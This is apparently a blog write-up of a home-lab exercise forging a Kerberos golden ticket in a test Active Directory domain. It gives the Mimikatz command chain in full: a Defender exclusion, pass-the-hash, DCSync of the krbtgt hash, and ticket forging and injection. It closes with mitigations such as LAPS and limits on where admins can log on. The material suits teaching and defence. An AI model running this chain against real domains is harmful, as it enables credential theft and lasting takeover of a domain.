Generating a Golden Ticket in the Lab

7 min readJun 3, 2021

TL;DR this is my notes from generating a Kerberos golden ticket in the lab. This info is all out there on Google, this is just the steps I used to put it together in practice.

I have seen some cybersecurity courses talk about a Kerberos golden ticket in theory, but I have not seen them demonstrate it. This is simply a writeup based on some Googling and putting bits and piecestogether in the lab to generate a golden ticket. The concept behind the golden ticket is in many courses, so I won’t re-invent the wheel there. Suffice to say it allows forging Kerberos Ticket Granting Tickets (TGTs), thereby granting access to pretty much anything domain wide.For the purposes of this lab, I am assuming the attacker has gained domain user access on a system, then gained local admin on that system. Further, a domain administrator has logged onto the compromised system at some point.

I am utilizing the same Windows 10 domain client VM I used for the BloodHound writeup and the Kerberoasting one. This VM is joined to the domain corp.local, which is running off the pre-built DC VM by Paramount Defenses ( For simplicity’s sake I made a folderexemption in Windows Defender for C:\Temp. Windows Defender will detect and delete an unmodified copy of Mimikatz.

There is a short list of what information is needed to generate a golden ticket:

  • Krbtgt’s NTLM hash
  • Domain name
  • Domain’s SID
  • Username to impersonate

The domain name, domain’s SID, and a username to target are easy to find, particularly with BloodHound. The trick is to find a copy of the krbtgt hash. This is where Mimikatz’s DCSync comes in.

The level of access needed to perform thisexample lab is Domain User access and local admin on a domain workstation that was logged into by a Domain Admin. As aforementioned we are assuming this has been compromised. Given this the steps below can be followed to generate the infamous golden ticket.

Run PowerShell as .\Administrator

CD C:\Temp\mimikatz_trunk\x64
Start-Process .\mimikatz.exe -Verb RunAs

Please note that simply running mimikatz as the local admin account will not provide debug privileges. Mimikatz will not function without those privileges. ‘-Verb RunAs’ is the equivalent of ‘Run as administrator’ in the GUI.

Next dump credentials on the system with the following commands in Mimikatz:


Copy/paste the NTLM hash and run:

sekurlsa::pth /user:Administrator /ntlm:03df526c49c8684ebed22fdb3ec5c533 /domain:corp.local

This automatically spawns a cmd.exe window as CORP\ Administrator, who is of course a Domain Admin. This gives privileges to run DCSync, which is then used to target the krbtgt account. In the elevated shell, run:

cd C:\Temp\mimikatz_trunk\x64
lsadump::dcsync /user:corp\krbtgt

Copy/paste the krbtgt’s NTLM hash in order to complete the command in mimikatz. The SID belongs to the domain, which is simply the krbtgt’s SID without the trailing‘-502’. We are targeting the Administrator in this example. ‘id:500’ is the user’s RID, which is easily found with BloodHound, among other methods.

kerberos::golden /domain:corp.local /sid:S-1–5–21–1917967189–4054103991–136247481 /krbtgt:cb542d2484aae7b5156c9a1a7bbb31e7 /user:Administrator /id:500 /ptt

Alternatively one can save the golden ticket for future use:

kerberos::golden /domain:corp.local /sid:S-1–5–21–1917967189–4054103991–136247481 /krbtgt:cb542d2484aae7b5156c9a1a7bbb31e7 /user:Administrator /id:500 /ticket:forged.kirbi

Once the ticket has been saved one can load and use it via

kerberos::ptt forged.kirbi

This will spawn a cmd.exe windowas the target user, in this case CORP\Administrator

One can also list the current tickets in Mimikatz:


As we can see, Mimikatz has a ticket for CORP\Administrator that is valid for the next 10 years. On a sidenote, as pointed out by Mimikatz’s creator Benjamin Delpy, if the username and RID don’t actually exist the ticket will still work for 20 minutes. After 20 minutes the Key Distribution Center (KDC) will validate the account.

Admittedly the golden ticket was generated and saved just to do it. We already had a shell running as a Domain Admin before we ran DCSync to grab the krbtgt hash. We had to, DCSync won’t work without ‘Replicating Directory Changes All’ and ‘Replicating Directory Changes’ privileges. This normally means a Domain Admin account in practice. BloodHound can find these domain accounts.

Additionally, given Domain Admin access an attacker could login to a DC and grab a copy ofNTDS.dit for offline cracking, or run Mimikatz on the DC itself, or create a GPO that will push ransomware to all domain workstations, or any number of other devastating actions. Once an attacker can login to a DC as a Domain Admin it’s already game over as Sanjay Tandon so eloquently points out here.

To recap, we got Domain Admin access by gaining local admin access on a domain workstation that the domain administrator had logged on to. We then simply passed the hash using Mimikatz. We didn’t actually find out what the domain administrator’s password is, but we didn’t have to.


Mitigation methods include restricting NTLM via GPO, located in Computer Configuration\Windows Settings\Security Settings\Local Policies\Security Options. Administrators can also use the Protected Users group to limit caching of hashes on domain workstations.However, some of the best preventative measures are to protect endpoints so that the attacker has a much more difficult time gaining domain user and local admin access in the first place. Mimikatz can’t dump hashes without debug rights, which in practice generally means local admin or SYSTEM account access.

Restrict what workstations Domain Admins can login to. They should be doing domain related work from only a few workstations anyway, perhaps even connecting to a ‘jump server’ using 2FA before they performany tasks using their Domain Adminaccount. This can be centrally managed via GPO under Computer Configuration\Policies\Windows Settings\Security Settings\Local Policies\User Rights Assignments. Set the policy for ‘Deny access to this computer from the network’ as well as ‘Deny log on as a batch job/as a service/locally/through RDP’.

In the event that admins need to install software or a driver for one particular user, this can be performed as the local admin for that system as long as pre-approved installation packages are located on a share drive that is readable by Domain Users. Have the user copy the package to C:\Approved and then run it as the local admin. Pair this policy with LAPS, set the LAPS password to change daily, and ensure that admins are pulling the local password via PowerShellqueries and not via RSAT.

Note; this howto is about generating a Golden Ticket. Covering mitigations against Mimikatz style attacks is an entire howto.

The idea of using each workstation’s local admin account for remote administration is an entire howto in and of itself as well.

Localadmin access on one compromised system does not get an attacker too far if

  • A Domain Admin never logins to the system
  • LAPS is in usage, so the attacker can’t just pivot to other workstations with the same credentials
  • The Domain User of that one system only has least privilege and doesn’t save PII, passwords, etc on their destkop

In summary, if an attacker can get local admin on a system that a Domain Admin has logged into then it can quickly be game over. This is true even if they don’t generate a golden ticket. Mitigating against this in a nutshell revolves around endpoint security, auditing AD permissions to ensure least privilege, and simply following best practices.





I work various IT jobs & like Windows domain security as a hobby. Most of what’shere is my notes fromauditing or the lab.